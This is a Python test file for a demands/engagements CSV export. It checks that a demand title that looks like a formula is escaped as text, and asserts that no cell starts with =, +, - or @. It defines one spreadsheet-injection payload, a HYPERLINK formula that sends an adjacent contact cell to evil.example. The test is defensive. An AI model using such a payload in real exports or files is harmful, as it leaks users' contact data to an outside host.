"""The engagements export never hands a spreadsheet a formula: a demand title that starts like one
(``=HYPERLINK(…)`` beside the contact columns) is written as text."""

import csv
import io

from kechuang.demands import services
from kechuang.demands.models import Demand

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&G2,"点击查看")'


def test_formula_like_title_is_exported_as_text(world, published_demand, client):
    Demand.objects.filter(pk=published_demand.pk).update(title=PAYLOAD)
    services.request_engagement(world.owner, published_demand, "expert", world.expert.pk, "@您好")
    client.force_login(world.owner)
    body = client.get("/demands/engagements/export.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert len(rows) == 2
    assert rows[1][1] == "'" + PAYLOAD
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in rows[1])
    assert "0577-65551234" in rows[1]  # the enterprise's own contact, as before
